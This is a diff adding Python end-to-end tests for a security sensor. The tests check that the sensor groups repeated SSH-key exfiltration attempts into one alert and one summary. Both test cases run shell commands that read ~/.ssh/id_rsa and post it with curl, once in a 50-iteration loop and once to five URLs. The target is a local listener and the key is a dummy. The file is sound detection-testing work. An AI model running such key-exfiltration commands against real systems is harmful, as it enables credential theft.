@@ -1,0 +1,203 @@
+#!/usr/bin/env python3
+"""End-to-end tests of rate limiting across a family (issue 5): a retry loop or
+a crawler gives one alert and a summary with the count, not one alert per try.
+Real kernel, real bash, cat and curl, loopback only, built-in rules.
+
+  ratelimit_test.py BARBWIRE SOURCE_ROOT CASE
+
+Each CASE is one function below; meson registers each as its own test in
+suite 'e2e'. They need root and a build with the sensor; otherwise they exit
+77 (skip), or 1 when CI=true. See README.md in this directory.
+"""
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import harness as h  # noqa: E402
+from harness import check  # noqa: E402
+
+BW = ""
+ROOT = ""
+
+# A dummy secret: not a real key.
+DUMMY_KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
+b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
+QyNTUxOQAAACBiYXJid2lyZS1yYXRlLWxpbWl0LXRlc3Qta2V5LW5vdC1yZWFsAAAAAA==
+-----END OPENSSH PRIVATE KEY-----
+"""
+
+ITERATIONS = 50
+
+
+def which_real(name):
+    p = shutil.which(name, path="/usr/bin:/bin")
+    if p is None:
+        h.skip_or_fail(f"{name} is not installed (these tests run the real {name}; apt-get install {name})")
+    return os.path.realpath(p)
+
+
+def make_home(ws):
+    """<ws>/home with ~/.ssh/id_rsa (DUMMY_KEY); returns its realpath."""
+    home = ws.path("home")
+    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
+    h.write_file(os.path.join(home, ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
+    return os.path.realpath(home)
+
+
+def shell_env(home):
+    return {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}
+
+
+def split(lines_json):
+    """(alerts, summaries) from a list of JSON objects."""
+    alerts = [x for x in lines_json if x.get("type") != "summary"]
+    summaries = [x for x in lines_json if x.get("type") == "summary"]
+    return alerts, summaries
+
+
+def dump(objs):
+    return "\n".join(json.dumps(o, sort_keys=True) for o in objs)
+
+
+def settle(sensor, leader, want, timeout=10.0):
+    """Wait until the sensor has printed `want` alerts of the session (events are
+    drained every 100 ms), then a little longer so that late ones would show."""
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline and len(sensor.alerts_in_session(leader)) < want:
+        time.sleep(0.05)
+    time.sleep(0.5)
+
+
+def replay(trace):
+    p = subprocess.run([BW, "replay", trace, "--format", "json"], capture_output=True, text=True, timeout=120)
+    check(p.returncode == 0, f"replay of the recording exited {p.returncode}; stderr:\n{p.stderr}")
+    return [json.loads(l) for l in p.stdout.splitlines() if l.strip()]
+
+
+def case_retry_loop():
+    """`for i in $(seq 50); do cat $HOME/.ssh/id_rsa | curl --data-binary @- http://127.0.0.1:PORT/; done`:
+    50 curls send the key. One alert (the first curl, relation sibling), no other alert of the
+    session while the sensor runs, and when it stops one summary of the same incident counting the
+    other 49 (49 processes, 1 destination). The recording replays to the same alert and summary."""
+    h.require_root_and_sensor()
+    which_real("curl"), which_real("cat"), which_real("bash")
+    homes = {}
+
+    def prepare(ws):
+        homes["home"] = make_home(ws)
+        return None  # built-in rules
+
+    with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
+        home = homes["home"]
+        key = os.path.join(home, ".ssh", "id_rsa")
+        sh = h.Shell(f'for i in $(seq {ITERATIONS}); do cat $HOME/.ssh/id_rsa | curl -sS -o /dev/null '
+                     f'--max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/; done', env=shell_env(home))
+        sh.wait(timeout=60)
+        got = [b for b in lst.bodies() if b == DUMMY_KEY.encode()]
+        check(len(got) == ITERATIONS, f"the listener got the key {len(got)} times, expected {ITERATIONS}")
+        settle(sensor, sh.leader, 1)
+        during = sensor.alerts_in_session(sh.leader)
+        check(len(during) == 1, f"while running: expected 1 alert of session {sh.leader}, got {len(during)}:\n"
+                                f"{dump(during)}")
+        sensor.stop_cleanly()
+        alerts = sensor.alerts_in_session(sh.leader)
+        check(len(alerts) == 1, f"expected 1 alert of session {sh.leader}, got {len(alerts)}:\n{dump(alerts)}")
+        a = alerts[0]
+        check(a.get("relation") == "sibling", f"relation {a.get('relation')!r}, expected sibling: {json.dumps(a)}")
+        check((a.get("file") or {}).get("path") == key, f"file {a.get('file')}, expected {key}")
+        check((a.get("process") or {}).get("comm") == "curl", f"process {a.get('process')}, expected curl")
+        check(isinstance(a.get("incident"), int) and a["incident"] > 0, f"no incident id: {json.dumps(a)}")
+        check("repeats" not in a, f"the first alert of an incident carries no repeats: {json.dumps(a)}")
+        _, summaries = split(sensor.alerts())
+        mine = [s for s in summaries if s.get("incident") == a["incident"]]
+        check(len(mine) == 1, f"expected 1 summary of incident {a['incident']}, got {len(mine)}:\n{dump(summaries)}")
+        s = mine[0]
+        r = s.get("repeats") or {}
+        check(r.get("count") == ITERATIONS - 1, f"summary counts {r.get('count')}, expected {ITERATIONS - 1}: "
+                                                f"{json.dumps(s)}")
+        check(r.get("processes") == ITERATIONS - 1, f"summary: {r.get('processes')} processes, expected "
+                                                    f"{ITERATIONS - 1}: {json.dumps(s)}")
+        check(r.get("destinations") == 1, f"summary: {r.get('destinations')} destinations, expected 1")
+        check(s.get("ended") == "flushed", f"summary ended {s.get('ended')!r}, expected flushed (sensor stopped)")
+        check(s.get("scope") == {"kind": "session", "id": sh.leader}, f"summary scope {s.get('scope')}, expected "
+                                                                      f"session {sh.leader}")
+        check((s.get("file") or {}).get("path") == key, f"summary file {s.get('file')}")
+        check(s.get("alert_ts_ns") == a.get("ts_ns"), f"summary alert_ts_ns {s.get('alert_ts_ns')} is not the "
+                                                      f"alert's ts_ns {a.get('ts_ns')}")
+        check(a["ts_ns"] < r.get("first_ts_ns", 0) <= r.get("last_ts_ns", 0) <= s.get("ts_ns", 0),
+              f"summary times out of order: {json.dumps(s)}")
+        # the recording replays to the same alert and summary
+        ra, rs = split(replay(ws.trace))
+        ra = [x for x in ra if h.in_session(x, sh.leader)]
+        rs = [x for x in rs if x.get("incident") == a["incident"]]
+        check(ra == alerts, f"replayed alerts differ:\nlive:\n{dump(alerts)}\nreplay:\n{dump(ra)}")
+        check(rs == mine, f"replayed summary differs:\nlive:\n{dump(mine)}\nreplay:\n{dump(rs)}")
+        print(f"retry loop: 1 alert, summary counts {r['count']} repeats from {r['processes']} processes")
+
+
+def case_crawler():
+    """One curl reads the key itself and posts it to 5 listeners (a crawler): one alert
+    (relation self) and, at stop, a summary counting 4 repeats to 4 destinations."""
+    h.require_root_and_sensor()
+    which_real("curl"), which_real("bash")
+    homes = {}
+
+    def prepare(ws):
+        homes["home"] = make_home(ws)
+        return None
+
+    extra = []
+    try:
+        with h.scenario(BW, prepare) as (ws, sensor, lst):
+            extra = [h.HttpListener("127.0.0.1") for _ in range(4)]
+            ports = [lst.port] + [x.port for x in extra]
+            home = homes["home"]
+            urls = " ".join(f"http://127.0.0.1:{p}/" for p in ports)
+            sh = h.Shell(f'curl -sS -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null '
+                         f'--max-time 10 --data-binary @$HOME/.ssh/id_rsa {urls}', env=shell_env(home))
+            sh.wait(timeout=60)
+            settle(sensor, sh.leader, 1)
+            sensor.stop_cleanly()
+            alerts = sensor.alerts_in_session(sh.leader)
+            check(len(alerts) == 1, f"expected 1 alert of session {sh.leader}, got {len(alerts)}:\n{dump(alerts)}")
+            a = alerts[0]
+            check(a.get("relation") == "self", f"relation {a.get('relation')!r}, expected self")
+            _, summaries = split(sensor.alerts())
+            mine = [s for s in summaries if s.get("incident") == a.get("incident")]
+            check(len(mine) == 1, f"expected 1 summary of incident {a.get('incident')}, got:\n{dump(summaries)}")
+            r = mine[0].get("repeats") or {}
+            check(r.get("count") == 4 and r.get("destinations") == 4 and r.get("processes") == 1,
+                  f"summary: expected 4 repeats to 4 destinations from 1 process: {json.dumps(mine[0])}")
+            seen = {(a["destination"]["port"])} | {mine[0]["last_destination"]["port"]}
+            check(seen <= set(ports), f"destinations {seen} are not the listeners {ports}")
+    finally:
+        for x in extra:
+            x.close()
+
+
+def main():
+    global BW, ROOT
+    if len(sys.argv) != 4:
+        sys.exit(__doc__)
+    BW, ROOT, case = os.path.abspath(sys.argv[1]), sys.argv[2], sys.argv[3]
+    fn = globals().get("case_" + case)
+    if fn is None:
+        sys.exit(f"ratelimit_test: no case {case!r}")
+    if not os.path.exists(BW):
+        h.skip_or_fail(f"{BW} is not built")
+    t0 = time.monotonic()
+    try:
+        fn()
+    except AssertionError as e:
+        print(f"FAIL {case}: {e}")
+        return 1
+    print(f"ok {case} ({time.monotonic() - t0:.1f} s)")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
